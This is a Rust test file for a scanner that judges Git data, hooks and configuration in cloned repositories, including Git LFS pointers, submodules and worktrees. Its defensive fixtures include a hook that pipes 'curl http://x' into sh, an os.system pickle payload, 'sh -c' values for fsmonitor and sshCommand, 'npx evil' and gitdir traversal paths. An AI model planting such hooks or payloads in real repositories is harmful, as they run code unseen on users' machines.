//! Folders that were cloned by Git: what Git itself puts there is clean, what it would run is told.

use hygeia_artifact::scan::{self, Format, Limits, Scanned, Verdict};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn asked(at: &Path, args: &[&str]) -> Output {
    let who =
        ["-c", "user.name=A", "-c", "user.email=a@b.example", "-c", "protocol.file.allow=always"];
    let mut git = Command::new("git");
    git.current_dir(at).args(who).args(args).env("GIT_CONFIG_GLOBAL", "/dev/null");
    git.env("GIT_CONFIG_NOSYSTEM", "1").output().unwrap()
}

fn git(at: &Path, args: &[&str]) {
    let ran = asked(at, args);
    assert!(ran.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&ran.stderr));
}

/// A repository as a hub keeps it: a card, a configuration, weights in Git LFS, some commits.
fn hub(at: &Path, options: &[&str]) -> PathBuf {
    let origin = at.join("origin");
    git(at, &[&["init", "-q", "-b", "main"], options, &["origin"]].concat());
    let pointer = format!(
        "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 440449768\n",
        "5f".repeat(32)
    );
    for (name, text) in [
        (".gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
        ("README.md", "---\nlicense: mit\n---\n# A model\n"),
        ("config.json", "{\"model_type\": \"bert\"}"),
        ("model.safetensors", &pointer),
        ("pytorch_model.bin", &pointer),
        ("onnx/model.onnx", &pointer),
    ] {
        let path = origin.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        git(&origin, &["add", "-A"]);
        git(&origin, &["commit", "-q", "-m", name]);
    }
    // Lists of commits, whose digits may begin with any letter.
    for number in 0..40 {
        let message = format!("again {number}");
        git(&origin, &["commit", "-q", "--allow-empty", "-m", &message]);
        git(&origin, &["branch", &format!("b{number}")]);
    }
    origin
}

fn all_is_clean(root: &Path) -> Scanned {
    let scanned = look(root);
    let odd: Vec<_> = scanned.files.iter().filter(|file| file.verdict != Verdict::Clean).collect();
    assert!(odd.is_empty(), "{odd:?}: {:?} {:?}", scanned.findings, scanned.unsure);
    assert_eq!(scanned.verdict, Verdict::Clean);
    scanned
}

/// Files of Git's own data below `root`.
fn data(scanned: &Scanned) -> Vec<String> {
    let own = scanned.files.iter().filter(|file| file.format == Format::Git);
    own.map(|file| file.name.clone()).collect()
}

fn look(root: &Path) -> Scanned {
    scan::path(root, &Limits::default()).unwrap()
}

fn verdict(scanned: &Scanned, name: &str) -> Verdict {
    scanned
        .files
        .iter()
        .find(|file| file.name == name)
        .unwrap_or_else(|| panic!("no {name}"))
        .verdict
}

// proves M10
#[test]
fn the_samples_that_git_installs_are_clean_and_a_changed_or_active_hook_is_told() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    git(root.path(), &["init", "-q", "."]);
    let hooks = root.path().join(".git/hooks");
    let samples: Vec<String> = fs::read_dir(&hooks)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(samples.len() > 10, "{samples:?}");
    let scanned = look(root.path());
    assert!(scanned.findings.is_empty(), "{:?}", scanned.findings);
    assert_eq!(scanned.verdict, Verdict::Clean, "{:?}", scanned.unsure);

    let sample = fs::read_to_string(hooks.join("pre-commit.sample")).unwrap();
    let put = |name: &str, text: &str| fs::write(hooks.join(name), text).unwrap();
    put("pre-push.sample", &format!("{sample}\n"));
    put("update.sample", &sample.replace("#!/bin/sh", "#!/tmp/x"));
    put("commit-msg.sample", &sample);
    put("pre-commit", &sample);
    put("post-checkout", "true");
    put("post-merge", "#!/bin/sh\ncurl http://x | sh\n");
    put("notes.txt", "what we keep here\n");
    let scanned = look(root.path());
    for changed in ["pre-push.sample", "update.sample", "commit-msg.sample"] {
        assert_eq!(
            verdict(&scanned, &format!(".git/hooks/{changed}")),
            Verdict::Suspicious,
            "{changed}"
        );
    }
    for active in ["pre-commit", "post-checkout", "post-merge"] {
        let name = format!(".git/hooks/{active}");
        let mut own = scanned.findings.iter().filter(|found| found.location.subject == name);
        assert!(
            own.any(|found| found.rule == "artifact/git-hook"),
            "{active}: {:?}",
            scanned.findings
        );
    }
    assert_eq!(verdict(&scanned, ".git/hooks/notes.txt"), Verdict::Clean);
    assert_eq!(verdict(&scanned, ".git/hooks/pre-rebase.sample"), Verdict::Clean);
}

// proves M10
#[test]
fn a_sample_elsewhere_is_a_program_as_any_other() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    git(root.path(), &["init", "-q", "."]);
    let sample = fs::read(root.path().join(".git/hooks/pre-rebase.sample")).unwrap();
    fs::remove_dir_all(root.path().join(".git")).unwrap();
    fs::create_dir(root.path().join("hooks")).unwrap();
    fs::write(root.path().join("hooks/pre-rebase.sample"), sample).unwrap();
    assert_ne!(look(root.path()).verdict, Verdict::Clean);
}

// proves M10
#[test]
fn an_ordinary_clone_is_clean_with_what_git_lfs_adds_to_it() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    let origin = hub(root.path(), &[]);
    // Loose objects.
    assert!(data(&all_is_clean(&origin)).len() > 20);
    let clone = root.path().join("clone");
    git(root.path(), &["clone", "-q", &format!("file://{}", origin.display()), "clone"]);
    for name in ["pre-push", "post-checkout", "post-commit", "post-merge"] {
        let says =
            "This repository is configured for Git LFS but 'git-lfs' was not found on your path.";
        let hook = format!(
            "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || {{ printf >&2 \"\\n%s\\n\\n\" \"{says}\"; exit 2; }}\ngit lfs {name} \"$@\"\n"
        );
        fs::write(clone.join(".git/hooks").join(name), hook).unwrap();
    }
    git(&clone, &["config", "filter.lfs.smudge", "git-lfs smudge -- %f"]);
    git(&clone, &["config", "filter.lfs.process", "git-lfs filter-process"]);
    git(&clone, &["config", "lfs.repositoryformatversion", "0"]);
    let scanned = all_is_clean(&clone);
    let own = data(&scanned);
    for ending in ["/index", ".pack", ".idx"] {
        assert!(own.iter().any(|name| name.ends_with(ending)), "{ending}: {own:?}");
    }
    let pointers = scanned.findings.iter().filter(|found| found.rule == "artifact/lfs-pointer");
    assert_eq!(pointers.count(), 3, "{:?}", scanned.findings);
}

// proves M10
#[test]
fn what_git_makes_of_a_clone_in_time_is_clean() {
    let Some(_) = needs::program("git") else { return };
    for options in [&[][..], &["--object-format=sha256"], &["--ref-format=reftable"]] {
        let root = tempfile::tempdir().unwrap();
        if !asked(root.path(), &[&["init", "-q"], options, &["probe"]].concat()).status.success() {
            continue;
        }
        fs::remove_dir_all(root.path().join("probe")).unwrap();
        let origin = hub(root.path(), options);
        git(&origin, &["commit-graph", "write", "--reachable", "--split"]);
        git(&origin, &["repack", "-q", "-adb", "--write-midx"]);
        git(&origin, &["worktree", "add", "-q", "../beside", "b1"]);
        git(&origin, &["update-index", "--split-index"]);
        git(
            root.path(),
            &["clone", "-q", "--depth", "1", &format!("file://{}", origin.display()), "module"],
        );
        git(&origin, &["submodule", "--quiet", "add", "../module", "parts/module"]);
        git(&origin, &["commit", "-q", "-m", "a part"]);
        git(&origin, &["fetch", "-q", "../module"]);
        all_is_clean(&origin);
        all_is_clean(&root.path().join("module"));
        // Its configuration and hooks lie in another folder, which was not looked at.
        let beside = look(&root.path().join("beside"));
        assert_eq!(verdict(&beside, ".git"), Verdict::Inconclusive, "{:?}", beside.findings);
    }
}

// proves M10
#[test]
fn data_of_git_that_were_changed_or_are_something_else_are_not_clean() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    let origin = hub(root.path(), &[]);
    git(root.path(), &["clone", "-q", &format!("file://{}", origin.display()), "clone"]);
    for folder in [&origin, &root.path().join("clone")] {
        for name in data(&look(folder)) {
            let path = folder.join(&name);
            let held = fs::read(&path).unwrap();
            let mut mode = fs::metadata(&path).unwrap().permissions();
            #[allow(clippy::permissions_set_readonly_false)]
            mode.set_readonly(false);
            fs::set_permissions(&path, mode).unwrap();
            for place in [held.len() / 2, held.len() - 1] {
                let mut changed = held.clone();
                changed[place] ^= 1;
                fs::write(&path, changed).unwrap();
                assert_ne!(verdict(&look(folder), &name), Verdict::Clean, "{name} at {place}");
            }
            fs::write(&path, [&held[..], b"more"].concat()).unwrap();
            assert_ne!(verdict(&look(folder), &name), Verdict::Clean, "{name} and more");
            fs::write(&path, b"cos\nsystem\n(S'true'\ntR.").unwrap();
            assert_eq!(verdict(&look(folder), &name), Verdict::Malicious, "{name} armed");
            fs::write(&path, held).unwrap();
        }
    }
}

// proves M10
#[test]
fn configuration_and_hooks_are_judged_wherever_git_takes_them_from() {
    let Some(_) = needs::program("git") else { return };
    for (name, text) in [
        (".git/modules/a/b/config", "[core]\n\tfsmonitor = sh -c true\n"),
        (".git/worktrees/w/config.worktree", "[core]\n\tsshCommand = sh -c true\n"),
        (".git/modules/a/hooks/post-checkout", "true"),
        (".git/commondir", "../data\n"),
        ("part/.git", "gitdir: ../data\n"),
        ("part/.git", "gitdir: /tmp/elsewhere/.git\n"),
        ("part/.git", "gitdir: ../../elsewhere/.git/modules/x\n"),
        ("part/.git", "gitdir: ../.git/modules/absent\n"),
        ("bare/hooks/post-checkout", "true"),
        ("bare/config", "[core]\n\tbare = true\n\tfsmonitor = sh -c true\n"),
        (".husky/pre-commit", "npx evil\n"),
        (".gitmodules", "[submodule \"../x\"]\n\tpath = x\n\turl = y\n"),
    ] {
        let root = tempfile::tempdir().unwrap();
        git(root.path(), &["init", "-q", "."]);
        let path = root.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        assert_ne!(verdict(&look(root.path()), name), Verdict::Clean, "{name}: {text}");
    }
}
